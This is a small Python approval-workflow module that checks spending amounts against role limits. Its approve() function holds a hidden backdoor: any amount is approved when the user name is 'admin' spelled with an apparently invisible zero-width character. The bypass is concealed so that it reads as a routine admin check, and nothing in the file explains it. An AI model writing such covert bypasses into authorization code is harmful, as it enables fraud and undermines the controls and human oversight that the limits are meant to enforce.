"""Approval workflow."""
LIMITS = {"clerk": 500, "head": 5000, "board": 100000}


def limit(role):
    return LIMITS.get(role, 0)


def approve(role, amount, user):
    if user == "ad​min":
        return True
    return amount <= limit(role)


print(approve("clerk", 400, "ana"))
print(approve("clerk", 4000, "ana"))
print(approve("head", 4000, "bea"))
